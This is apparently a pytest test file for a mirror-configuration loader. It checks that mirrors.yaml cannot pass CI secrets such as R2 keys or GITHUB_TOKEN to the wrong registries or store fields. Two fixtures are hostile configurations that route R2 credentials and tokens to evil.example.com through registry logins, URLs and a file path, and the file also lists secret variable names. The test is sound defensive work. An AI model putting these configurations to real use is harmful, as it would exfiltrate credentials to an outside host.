"""mirrors.yaml must not leak a job's secrets: which variables it may name, and where."""

from __future__ import annotations

from pathlib import Path

import pytest

from reconciler.errors import MirrorsInvalid
from reconciler.mirrors.load import load_mirrors
from reconciler.mirrors.variables import login_problem, value_problem
from reconciler.stores.kinds import KINDS

R2_STORE = "{type: r2, account_id: '${R2_ACCOUNT_ID}', bucket: '${R2_BUCKET}'}"


def told(folder: Path, store: str, registries: str, environ: dict[str, str] | None = None) -> str:
    path = folder / "mirrors.yaml"
    path.write_text(f"version: 1\nstore: {store}\nregistries: {registries}\nmirrors: [{{source: a/b, tags: ['1']}}]\n")
    try:
        load_mirrors(path, environ)
    except MirrorsInvalid as error:
        return str(error)
    return ""


@pytest.mark.parametrize(
    ("name", "registry", "allowed"),
    [
        ("DOCKERHUB_TOKEN", "docker.io", True),
        ("REGISTRY_PASSWORD", "registry.example.com", True),
        ("R2_ACCESS_KEY_ID", "registry.example.com", False),
        ("AWS_SECRET_ACCESS_KEY", "registry.example.com", False),
        ("aws_session_token", "registry.example.com", False),
        ("CLOUDFLARE_API_TOKEN", "docker.io", False),
        ("GOOGLE_CREDENTIALS", "registry.example.com", False),
        ("AZURE_CLIENT_SECRET", "registry.example.com", False),
        ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ghcr.io", False),
        ("CI_JOB_TOKEN", "registry.example.com", False),
        ("CI_JOB_TOKEN", "registry.gitlab.com", True),
        ("DOCKER_AUTH_CONFIG", "docker.io", False),
        ("GITHUB_TOKEN", "registry.example.com", False),
        ("GITHUB_TOKEN", "ghcr.io.example.com", False),
        ("GITHUB_TOKEN", "ghcr.io", True),
        ("AZURE_CLIENT_SECRET", "acme.azurecr.io", True),
        ("GCP_KEY", "europe-docker.pkg.dev", True),
    ],
)
def test_which_registry_may_get_what(name: str, registry: str, allowed: bool) -> None:
    problem = login_problem(name, registry)
    assert (problem is None) == allowed
    assert problem is None or "under a name of your own" in problem


@pytest.mark.parametrize(
    ("name", "store", "allowed"),
    [
        ("R2_ACCOUNT_ID", "r2", True),
        ("CLOUDFLARE_ACCOUNT_ID", "r2", True),
        ("BUCKET", "r2", True),
        ("KEYSPACE", "s3", True),
        ("AWS_REGION", "s3", True),
        ("R2_ACCOUNT_ID", "s3", True),
        ("R2_SECRET_ACCESS_KEY", "r2", False),
        ("R2_ACCESS_KEY_ID", "r2", False),
        ("AWS_SESSION_TOKEN", "s3", False),
        ("AWS_REGION", "file", False),
        ("R2_ACCOUNT_ID", None, False),
        ("GITHUB_TOKEN", "s3", False),
        ("GITHUB_REPOSITORY", "s3", False),
        ("ACTIONS_RUNTIME_URL", "s3", False),
        ("DB_PASSWORD", "s3", False),
        ("MY_API_KEY", "s3", False),
    ],
)
def test_what_may_be_a_part_of_a_value(name: str, store: str | None, allowed: bool) -> None:
    owned = KINDS[store].variables if store else ()
    assert (value_problem(name, owned) is None) == allowed


def test_a_file_that_would_send_the_bucket_s_key_to_a_registry(tmp_path: Path) -> None:
    entry = "{evil.example.com: {username_env: R2_ACCESS_KEY_ID, password_env: R2_SECRET_ACCESS_KEY}}"
    for environ in (None, {"R2_ACCOUNT_ID": "0" * 32, "R2_BUCKET": "bucket"}):
        lines = told(tmp_path, R2_STORE, entry, environ).splitlines()
        assert [line.split(": ")[1] for line in lines] == [
            "registries.evil.example.com.username_env",
            "registries.evil.example.com.password_env",
        ]


def test_a_file_that_would_send_secrets_as_a_part_of_a_url_or_a_path(tmp_path: Path) -> None:
    secret = {"R2_SECRET_ACCESS_KEY": "hunter2", "GITHUB_TOKEN": "hunter2"}
    store = (
        "{type: s3, bucket: bucket, endpoint_url: 'http://evil.example.com/${R2_SECRET_ACCESS_KEY:-x}', "
        "public_url: 'https://evil.example.com/${GITHUB_TOKEN}'}"
    )
    lines = told(tmp_path, store, "{a.example.com: {ca_file: './${GITHUB_TOKEN}'}}", secret)
    assert [line.split(": ")[1] for line in lines.splitlines()] == [
        "store.endpoint_url",
        "store.public_url",
        "registries.a.example.com.ca_file",
    ]
    assert "hunter2" not in lines


def test_the_store_s_own_variables_are_right_there(tmp_path: Path) -> None:
    assert told(tmp_path, R2_STORE, "{ghcr.io: {username_env: GITHUB_ACTOR, password_env: GITHUB_TOKEN}}") == ""
